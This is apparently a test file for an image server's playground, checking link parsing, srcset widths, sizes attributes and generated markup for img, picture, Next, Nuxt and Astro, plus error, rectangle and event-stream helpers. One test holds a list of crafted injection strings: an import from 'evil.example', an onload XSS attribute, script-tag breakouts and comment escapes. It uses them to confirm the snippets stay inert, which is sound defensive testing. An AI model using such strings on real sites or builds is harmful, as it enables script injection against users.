import { transform } from 'esbuild';
import t from 'tap';
import { nextLoader } from '../../../client/adapters/next.ts';
import { getImage } from '../../../client/adapters/nuxt.ts';
import { OPERATIONS } from '../../../server/core/operations/index.ts';
import type { Operation } from '../../../server/core/operations/operation.ts';
import { readQuery } from '../../../server/core/operations/transformation.ts';

const load = (name: string) =>
  import(new URL(`../../../server/http/playground/${name}.js`, import.meta.url).href);

t.test('reads a link that comes from anywhere', async (t) => {
  const { readLink, readParams, linkOf, addressOf } = await load('address');
  t.same(readLink('#shoes/red.jpg?w=1&dl=50%'), ['shoes/red.jpg', 'w=1&dl=50%']);
  t.same(readLink('#a%zz%2Fb?dl=50%25'), ['a%zz/b', 'dl=50%25']);
  t.same(readLink('#%ff'), ['%ff', '']);
  t.same(readLink(''), ['', '']);
  const fields = new Map([
    ['w', { key: 'w', aliases: ['width'] }],
    ['gray', { key: 'gray', aliases: [] }],
  ]);
  t.same(Object.entries(readParams('gray&width=3&x=1', fields)), [
    ['w', '3'],
    ['gray', '1'],
    ['x', '1'],
  ]);
  t.equal(
    addressOf('a', { dl: 'x,y,' }),
    '/img/a?dl=x,y%2C',
    'srcset would take a comma at the end for its own',
  );
  t.equal(
    addressOf('a', { 'x 1w, https://evil.example/?': '1' }),
    '/img/a?x%201w%2C%20https%3A%2F%2Fevil.example%2F%3F=1',
    'nor a key for an address of its own',
  );
  t.equal(linkOf('a b/c.jpg', { w: '3', rect: '0,0,1,1', q: '' }), '#a%20b/c.jpg?w=3&rect=0,0,1,1');
});

t.test('candidates stop at the largest width that the picture has', async (t) => {
  const { widthsOf } = await load('snippets');
  t.same(widthsOf(256), [160, 256]);
  t.same(widthsOf(320), [160, 320]);
  t.same(widthsOf(100), [100]);
  t.equal(widthsOf(undefined).at(-1), 1920, 'nobody knows: a screen');
  t.same(widthsOf(700, [1600, 320, 640]), [320, 640]);
  t.same(widthsOf(100, [320, 640]), [320], 'a deployment that serves no smaller one');
});

t.test('sizes of a few answers', async (t) => {
  const { sizesOf } = await load('snippets');
  const layout = { narrow: 100, wide: 50, from: 768, most: '' };
  t.equal(sizesOf(layout), '(min-width: 768px) 50vw, 100vw');
  t.equal(sizesOf({ ...layout, wide: 100 }), '100vw');
  t.equal(sizesOf({ ...layout, most: '600' }), '(min-width: 1200px) 600px, (min-width: 768px) 50vw, 100vw');
  t.equal(sizesOf({ ...layout, most: '300' }), '(min-width: 768px) 300px, 100vw', 'full before it is wide');
});

t.test('markup keeps the ratio, escapes, and carries what a framework can', async (t) => {
  const { queriesOf, write, fixedParams } = await load('snippets');
  const layout = { narrow: 100, wide: 50, from: 768, most: '' };
  const input = {
    id: 'a "b".jpg',
    params: { w: '400', h: '300', fit: 'cover', dpr: '2', q: '60' },
    widths: [160, 320],
    size: { width: 800, height: 600 },
    layout,
  };
  const queries = queriesOf('img', input);
  t.same(queries, [
    { w: '160', h: '120', fit: 'cover', q: '60' },
    { w: '320', h: '240', fit: 'cover', q: '60' },
  ]);
  const img = write('img', 'https://i', input, ['/img/a?w=160&h=120', '/img/a?w=320&h=240']);
  t.match(img, 'src="https://i/img/a?w=320&amp;h=240"');
  t.match(img, 'https://i/img/a?w=160&amp;h=120 160w,');
  t.match(img, 'width="800" height="600"');
  t.equal(queriesOf('picture', input).length, 6);
  t.match(
    write('picture', '', input, ['a', 'b', 'c', 'd', 'e', 'f']),
    /<picture>\n<source type="image\/avif".*\n {4}a 160w,\n {4}b 320w">\n<source type="image\/webp"/,
  );
  t.same(fixedParams(input.params), { ar: '400:300', q: '60' });
  t.same(fixedParams({ w: '4', h: '3', blur: '2' }), { blur: '2' });
  t.match(write('next', 'https://i', input, []), "nextLoader('https://i', { ar: '400:300', q: '60' })");
  t.match(write('nuxt', 'https://i', input, []), 'src="a &quot;b&quot;.jpg"');
  t.match(write('nuxt', 'https://i', input, []), 'sizes="100vw md:50vw"');
  t.match(
    write('astro', 'https://i', { ...input, params: { ...input.params, blur: '3' } }, []),
    'no place for blur',
  );
  t.match(write('astro', 'https://i', input, []), 'widths={[160, 320]}');
  const presets = { ...input, params: { p: 'card' }, widths: [] };
  t.same(queriesOf('img', presets), [
    { p: 'card', dpr: undefined },
    { p: 'card', dpr: '2' },
    { p: 'card', dpr: '3' },
  ]);
  t.match(
    write('img', '', presets, ['x', 'y', 'z']),
    /src="x"\n {2}srcset="\n {4}x 1x,\n {4}y 2x,\n {4}z 3x"/,
  );
});

const BOXES = [
  '',
  'w=300',
  'h=200',
  'w=300&h=200',
  'w=200&h=300&fit=cover',
  'w=90&h=90&fit=contain',
  'ar=3:2',
];

function isRead(query: string): boolean {
  try {
    return Boolean(readQuery(query, {}, []));
  } catch {
    return false;
  }
}

t.test('every address of a snippet is one that the server reads, whatever is set', async (t) => {
  const { readParams } = await load('address');
  const { queryOf } = await load('address');
  const { queriesOf, fixedParams, boxedParams, widthsOf } = await load('snippets');
  const examples = OPERATIONS.flatMap(({ example }: Operation) => (example ? [example] : []));
  for (const box of BOXES)
    for (const example of examples) {
      const params = { ...readParams(example, new Map()), ...readParams(box, new Map()) };
      if (!isRead(queryOf(params))) continue;
      const queries: object[] = queriesOf('img', { params, widths: widthsOf(1000) });
      const texts = queries.map((query) => queryOf(query));
      const src = nextLoader('http://i', fixedParams(params))({ src: 'a.jpg', width: 640 });
      const { fit, rest } = boxedParams(params);
      const modifiers = { width: 640, height: 427, fit, ...rest };
      const { url } = getImage('a.jpg', { modifiers, baseURL: 'http://i' });
      for (const text of [...texts, src.split('?')[1] ?? '', url.split('?')[1] ?? ''])
        readQuery(text, {}, []);
      t.equal(queries.length, 7, `${box} ${example}`);
    }
});

t.test('what a framework compiles has the id and the values as they are', async (t) => {
  const { write } = await load('snippets');
  const id = `a "b" 'c' \\d {e} <f> &amp; .jpg`;
  const params = { bg: 'fff', dl: `x'"y\\<&` };
  const layout = { narrow: 100, wide: 50, from: 768, most: '' };
  const input = { id, params, widths: [160], size: { width: 8, height: 6 }, layout };
  const next = String(write('next', 'https://i', input, []));
  const { code } = await transform(tagOf(next), { loader: 'jsx', jsxFactory: 'h' });
  const h = (_name: unknown, attributes: object) => attributes;
  t.match(new Function('h', 'Image', `return ${code}`)(h, 'Image'), { src: id, width: 8 });
  const loader = /nextLoader\('https:\/\/i', (.*)\);/.exec(next)?.[1];
  t.same(new Function(`return ${loader}`)(), params);
});

/** The `<Image>` of a file. */
const tagOf = (text: string): string => text.slice(text.indexOf('<Image'), text.lastIndexOf('/>') + 2);

const CRAFTED = [
  "a:1});\nawait import('https://evil.example/x.js');//",
  `" onload="alert(1)`,
  `'\n});globalThis.hit = 1;({'a':'`,
  '\u2028globalThis.hit = 1;//',
  '\\',
  `\\'`,
  `\\"`,
  '`$\u007bglobalThis.hit = 1}`',
  '"} {...{}} /> {globalThis.hit = 1}',
  '*/ globalThis.hit = 1 /*',
  '</script><script>globalThis.hit = 1</script>',
  '\ud800',
];

t.test(
  'whatever stands in a link, a snippet is data: keys and values are read back as they were',
  async (t) => {
    const { write } = await load('snippets');
    const layout = { narrow: 100, wide: 50, from: 768, most: '' };
    const attributesOf = (_name: unknown, attributes: object) => attributes;
    for (const text of CRAFTED) {
      const params = { [text]: text, q: text };
      const input = { id: text, params, widths: [160], size: { width: 8, height: 6 }, layout };
      const made = (kind: string) => String(write(kind, 'https://i', input, []));
      const [loader, page] = made('next').split('\n\n// next.config.mjs');
      const { code } = await transform(loader ?? '', { format: 'cjs' });
      const module: { exports: { default?: unknown } } = { exports: {} };
      new Function('require', 'module', code)(
        () => ({ nextLoader: (_base: string, own: object) => own }),
        module,
      );
      t.same(module.exports.default, params, text);
      const tags = [page ?? '', made('astro')].map(tagOf);
      for (const tag of tags) {
        const compiled = await transform(tag, { loader: 'jsx', jsxFactory: 'h' });
        const read = new Function('h', 'Image', `return ${compiled.code}`)(attributesOf, 'Image');
        t.equal(read.src, text);
        t.equal(read.quality ?? text, text);
      }
      const [, note = ''] = made('astro').split('});\n');
      const own = ['', '---', "import { Image } from 'astro:assets';"];
      const isComment = (line: string) => own.includes(line) || line.startsWith('//');
      t.ok(
        note
          .slice(0, note.indexOf('<Image'))
          .split(/[\n\u2028\u2029]/)
          .every(isComment),
        note,
      );
    }
    t.notOk('hit' in globalThis);
  },
);

t.test('where a browser keeps nothing, the token lasts as long as the page', async (t) => {
  // Node has no storage of a page, unless it is told to have one.
  const { current, storeToken } = await load('store');
  t.equal(current().token, '');
  storeToken('secret');
  t.equal(current().token, 'secret');
});

t.test(
  'an error is read as words where it has some, a picture that stands in for another has none',
  async (t) => {
    const { problemOfAnswer } = await load('api');
    const answer = (type: string, body: string | Buffer, status = 404) =>
      new Response(body, { status, headers: { 'content-type': type } });
    const problem = { code: 'image_not_found', detail: 'There is no image "a".' };
    t.match(await problemOfAnswer(answer('application/problem+json', JSON.stringify(problem))), problem);
    t.match(await problemOfAnswer(answer('text/html', '<h1>Bad gateway</h1>', 502)), {
      status: 502,
      detail: '<h1>Bad gateway</h1>',
    });
    for (const type of ['image/avif', 'application/octet-stream', ''])
      t.same(await problemOfAnswer(answer(type, Buffer.from([0, 255, 128]))), {
        status: 404,
        title: 'Status 404',
        detail: 'There is no such picture.',
      });
  },
);

t.test('points and rectangles are read and written as fp and rect spell them', async (t) => {
  const { readPoint, pointText, readRectangle, rectangleText, fitRectangle, rectangleBetween, stepOf } =
    await load('points');
  t.same(readPoint('0.3,0.7'), { x: 0.3, y: 0.7 });
  for (const text of [undefined, '', 'x', '0.3']) t.equal(readPoint(text), undefined);
  t.equal(pointText({ x: -1, y: 1 / 3 }), '0,0.333');
  t.same(readRectangle('r,0.1,0.2,0.3,0.4'), { left: 0.1, top: 0.2, width: 0.3, height: 0.4 });
  t.same(readRectangle('10,20,50,100', { width: 100, height: 200 }), {
    left: 0.1,
    top: 0.1,
    width: 0.5,
    height: 0.5,
  });
  t.equal(readRectangle('10,20,50,100'), undefined);
  t.equal(readRectangle('x'), undefined);
  t.equal(rectangleText({ left: 0, top: 0, width: 1, height: 1 }), undefined, 'all of it is no parameter');
  t.equal(rectangleText(rectangleBetween({ x: 0.8, y: 0.9 }, { x: 0.2, y: 0.4 })), 'r,0.2,0.4,0.6,0.5');
  t.same(fitRectangle({ left: 0.9, top: -1, width: 0.5, height: 0 }), {
    left: 0.5,
    top: 0,
    width: 0.5,
    height: 0.01,
  });
  t.same(stepOf({ key: 'ArrowUp' }), { x: 0, y: -1 });
  t.equal(stepOf({ key: 'a' }), undefined);
});

t.test('events of a stream are read across its chunks', async (t) => {
  const { readEvents } = await load('event-stream');
  const read = readEvents();
  t.same(read('retry: 3000\n\nid: 1\nevent: sta'), []);
  t.same(read('tus\ndata: {"a":\ndata: 1}\n\n: nothing new\r\n\r\nda'), [
    { id: '1', event: 'status', data: '{"a":\n1}' },
  ]);
  t.same(read('ta: x\n\n'), [{ data: 'x' }]);
});
